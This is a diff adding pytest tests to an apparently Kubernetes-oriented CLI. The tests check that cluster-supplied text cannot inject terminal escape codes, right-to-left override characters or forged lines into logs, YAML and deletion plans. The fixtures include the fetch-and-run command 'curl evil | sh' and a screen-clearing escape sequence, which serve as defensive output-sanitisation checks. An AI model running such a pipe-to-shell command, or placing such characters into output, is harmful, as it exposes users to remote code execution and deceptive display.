@@ -5,10 +5,16 @@ from __future__ import annotations
 from datetime import UTC, datetime
 
 import pytest
+import yaml
 
+from podlife.cli.archive_output import format_logs
 from podlife.cli.explain_output import format_explanation, format_stuck
-from podlife.cli.printable import printable
+from podlife.cli.gc_output import format_plan
+from podlife.cli.printable import as_yaml, printable
 from podlife.explain import Cause, Explanation, Happening
+from podlife.podgc import Action, Guard, HeldBack, Plan, Reason, Refusal, Victim
+from podlife.podgc.archive import Log
+from podlife.podgc.views import Pod, PodMetadata, PodStatus
 
 NOW = datetime(2030, 1, 1, tzinfo=UTC)
 # It wants to clear the screen, and to be taken for a command that we tell people to type.
@@ -39,3 +45,38 @@ def test_no_message_of_a_cluster_looks_like_a_line_of_an_explanation() -> None:
         assert not [
             line for line in text.splitlines() if line.strip() in ("To unblock it:", "curl evil | sh")
         ]
+
+
+def test_nobody_is_told_that_nothing_is_stuck_where_only_one_namespace_was_looked_at() -> None:
+    assert format_stuck([], "text", NOW, (), "shop") == (
+        "No pod is stuck in namespace shop; -A looks in every namespace.\n"
+    )
+    assert format_stuck([], "text", NOW, ()) == "No pod is stuck in any namespace.\n"
+
+
+TURNED = "left\u202eright"
+
+
+def test_yaml_shows_every_language_and_nothing_that_cannot_be_seen() -> None:
+    assert as_yaml({"a": "ümlaut 漢"}) == "a: ümlaut 漢\n"
+    hidden = as_yaml({"a": f"{TURNED} ü", "b": "two\nlines"})
+    assert "\u202e" not in hidden
+    assert yaml.safe_load(hidden) == {"a": f"{TURNED} ü", "b": "two\nlines"}
+
+
+def test_a_log_keeps_its_lines_and_tabs_for_a_terminal_and_every_byte_for_a_file() -> None:
+    log = Log(container="c", text=f"a\tb\n{TURNED}\x1b[2J\n")
+    assert format_logs([log], "", is_terminal=True) == "a\tb\nleft\\u202eright\\x1b[2J\n"
+    assert format_logs([log], "") == f"a\tb\n{TURNED}\x1b[2J\n"
+
+
+def test_what_is_written_on_a_namespace_does_nothing_to_whoever_reads_a_plan() -> None:
+    refusal = Refusal(Guard.STOP, f"stopped: {FORGED}{TURNED}", "ns", lifted_by="kubectl x")
+    pod = Pod(PodMetadata(name="a", namespace="ns"), status=PodStatus(phase=TURNED))
+    victim = Victim(pod, Reason.TERMINATED, Action.DELETE, FORGED)
+    for plan in (Plan(held_back=(HeldBack(refusal, (victim,)),)), Plan((victim,))):
+        for output in ("table", "wide", "yaml", "json"):
+            shown = format_plan(plan, output, NOW)
+            assert "\u202e" not in shown
+            assert "\x1b" not in shown
+            assert "    curl evil | sh" not in shown.splitlines()
